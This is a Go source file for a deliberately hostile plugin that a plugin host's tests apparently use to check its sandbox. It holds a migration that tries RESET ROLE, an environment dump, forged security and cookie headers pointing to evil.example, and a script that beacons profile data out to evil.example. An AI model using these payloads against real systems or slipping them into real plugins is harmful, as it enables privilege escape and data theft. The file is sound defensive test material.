// Command hostile is a deliberately malicious plugin built only by the
// host's tests. Through the real host API it runs whatever SQL the test
// sends (to prove each sandbox escape fails), reports its own environment
// (to prove the core's secrets are not passed on), answers with headers a
// plugin must not set, and awards VetCoins and notifications on demand. It
// skips the SDK's manifest validation on purpose, so it can also claim ids
// the host must refuse (set with -ldflags -X main.pluginID=...), and with
// -X main.evilMigration=1 its schema migration tries to leave its role.
package main

import (
	"encoding/json"
	"net/http"
	"os"
	"strconv"

	goplugin "github.com/hashicorp/go-plugin"

	"github.com/vetclube/vetclube/plugins/sdk"
)

var (
	pluginID      = "hostile"
	evilMigration = ""
)

func main() {
	migs := []sdk.Migration{{Version: 1, Name: "loot", SQL: `CREATE TABLE loot (id bigserial PRIMARY KEY, v text NOT NULL)`}}
	if evilMigration != "" {
		migs = append(migs, sdk.Migration{Version: 2, Name: "escape", SQL: `CREATE TABLE harmless (x int);
			RESET ROLE;
			CREATE TABLE public.planted_by_migration (x int)`})
	}
	tool := sdk.Tool{
		Manifest: sdk.Manifest{
			ID: pluginID, Name: "Hostil " + pluginID, Description: "Tenta escapar do sandbox.",
			Version: "0.1.0", MinCoreVersion: "1.0.0", Kind: sdk.KindTool, Icon: "skull",
			Category: "Testes", Slug: pluginID, Access: sdk.AccessUser, UIKind: sdk.UICustom,
		},
		Migrations: migs,
		Handler:    handler,
	}
	// sdk.Serve would refuse the ids and migrations this plugin must send
	// for the host to refuse them, so it serves the SDK's plugin directly.
	goplugin.Serve(&goplugin.ServeConfig{
		//lint:ignore SA1019 the hostile plugin bypasses Serve's manifest check on purpose
		HandshakeConfig: sdk.Handshake(),
		//lint:ignore SA1019 the hostile plugin bypasses Serve's manifest check on purpose
		Plugins:    map[string]goplugin.Plugin{sdk.PluginName: &sdk.GRPCPlugin{Tool: &tool}},
		GRPCServer: goplugin.DefaultGRPCServer,
	})
}

type sqlCall struct {
	SQL  string `json:"sql"`
	Args []any  `json:"args"`
}

// sqlResult is always answered with 200: the test reads whether the host
// refused the statement from Error.
type sqlResult struct {
	Error string           `json:"error,omitempty"`
	Rows  []map[string]any `json:"rows,omitempty"`
	N     int64            `json:"n"`
}

func handler(host *sdk.Host) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /exec", func(w http.ResponseWriter, r *http.Request) {
		var in sqlCall
		if !sdk.DecodeJSON(w, r, &in) {
			return
		}
		n, err := host.Exec(r.Context(), in.SQL, in.Args...)
		res := sqlResult{N: n}
		if err != nil {
			res.Error = err.Error()
		}
		sdk.WriteJSON(w, 200, res)
	})
	mux.HandleFunc("POST /query", func(w http.ResponseWriter, r *http.Request) {
		var in sqlCall
		if !sdk.DecodeJSON(w, r, &in) {
			return
		}
		var res sqlResult
		if err := host.Query(r.Context(), &res.Rows, in.SQL, in.Args...); err != nil {
			res.Error = err.Error()
		}
		sdk.WriteJSON(w, 200, res)
	})
	mux.HandleFunc("GET /env", func(w http.ResponseWriter, r *http.Request) {
		sdk.WriteJSON(w, 200, map[string][]string{"env": os.Environ()})
	})
	// headers answers with every header a plugin must not be able to set.
	mux.HandleFunc("GET /headers", func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h.Set("Set-Cookie", "session=stolen; Path=/")
		h.Set("Location", "https://evil.example/")
		h.Set("Content-Security-Policy", "default-src *")
		h.Set("Access-Control-Allow-Origin", "*")
		h.Set("Strict-Transport-Security", "max-age=0")
		h.Set("X-Frame-Options", "ALLOWALL")
		h.Set("Refresh", "0; url=https://evil.example/")
		h.Set("Cache-Control", "no-cache")
		h.Set("ETag", `"v1"`)
		h.Set("Content-Type", "application/json")
		w.WriteHeader(200)
		_ = json.NewEncoder(w).Encode(map[string]string{"ok": "sim"})
	})
	mux.HandleFunc("GET /html", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(`<script>fetch('/api/profile').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example/', t))</script>`))
	})
	mux.HandleFunc("POST /award", func(w http.ResponseWriter, r *http.Request) {
		amount, _ := strconv.ParseInt(r.URL.Query().Get("amount"), 10, 64)
		dup, err := host.AwardVetCoins(r.Context(), amount, "hostil", r.URL.Query().Get("key"))
		if err != nil {
			sdk.WriteJSON(w, 200, map[string]any{"error": err.Error()})
			return
		}
		sdk.WriteJSON(w, 200, map[string]any{"duplicate": dup})
	})
	mux.HandleFunc("POST /notify", func(w http.ResponseWriter, r *http.Request) {
		dup, err := host.SendNotification(r.Context(), "Aviso do plugin", "Mensagem", r.URL.Query().Get("key"))
		if err != nil {
			sdk.WriteJSON(w, 200, map[string]any{"error": err.Error()})
			return
		}
		sdk.WriteJSON(w, 200, map[string]any{"duplicate": dup})
	})
	// Anything else echoes the path the host forwarded.
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		sdk.WriteJSON(w, 200, map[string]string{"path": r.URL.Path})
	})
	return mux
}
